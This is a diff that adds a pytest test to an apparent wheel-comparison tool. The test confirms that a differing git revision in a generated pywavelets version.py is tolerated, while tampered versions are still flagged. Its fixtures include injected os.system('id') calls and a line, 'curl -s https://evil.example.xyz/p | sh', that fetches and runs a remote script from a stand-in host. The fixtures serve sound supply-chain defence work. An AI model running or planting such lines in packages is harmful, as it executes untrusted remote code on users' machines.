@@ -1113,3 +1113,39 @@ def test_extras_a_setup_py_chooses_by_platform_never_excuse_a_requirement_of_a_p
     for i, (label, ms, name) in enumerate(_payloads(honest)):
         cmp = compare_other_platform(wheel(tmp_path / f"p{i}.whl", members=ms), reb, setup_py=setup_py)
         assert (name, "code") in coded(cmp), (label, cmp.differences)
+
+
+VERSION_PY = b"""# THIS FILE IS GENERATED FROM PYWAVELETS SETUP.PY
+short_version = '1.9.0'
+version = '1.9.0'
+full_version = '1.9.0'
+git_revision = '%s'
+release = True
+
+if not release:
+    version = full_version
+"""
+
+
+@pytest.mark.twin("vcs-revision-constant")
+def test_a_version_modules_revision_never_excuses_another_line_or_a_value_that_is_no_revision(tmp_path):
+    """pywavelets 1.9.0 (issue 47): pywt/version.py says git_revision = 'c7bca20' published, 'Unknown' rebuilt from
+    the sdist (no .git); the same on another platform's wheel. Twins: any other change, a value that is no hex
+    revision, another variable, code beside it stay differences of class code."""
+    members = [(n, d, m) for n, d, m in BASE if not n.endswith("RECORD")]
+    rebuilt = members + [("pkg/version.py", VERSION_PY % b"Unknown", 0o644), BASE[-1]]
+    honest = members + [("pkg/version.py", VERSION_PY % b"c7bca20a5f35d2fe6a8edb7b1f0f7d8b2f4b0a8c", 0o644), BASE[-1]]
+    reb = wheel(tmp_path / "r.whl", members=rebuilt)
+    for cmp in (compare_wheels(wheel(tmp_path / "p.whl", members=honest), reb),
+                compare_other_platform(wheel(tmp_path / "o.whl", members=_other_platform(honest)), reb)):
+        assert not cmp.differences and any("revision of the publisher's checkout" in s for s in cmp.tool_steps), cmp.differences
+    evil = {
+        "expression": VERSION_PY.replace(b"'%s'", b"__import__('os').system('id') or 'c7bca20'"),
+        "statement": VERSION_PY % b"c7bca20" + b"import os\nos.system('id')\n",
+        "no revision": VERSION_PY % b"curl -s https://evil.example.xyz/p | sh",
+        "another variable": VERSION_PY.replace(b"release = True", b"release = False") % b"c7bca20",
+        "version": VERSION_PY.replace(b"full_version = '1.9.0'", b"full_version = '1.9.1'") % b"c7bca20",
+    }
+    for what, data in evil.items():
+        pub = wheel(tmp_path / "e.whl", members=members + [("pkg/version.py", data, 0o644), BASE[-1]])
+        assert ("pkg/version.py", "code") in [(d.path, d.cls) for d in compare_wheels(pub, reb).differences], what
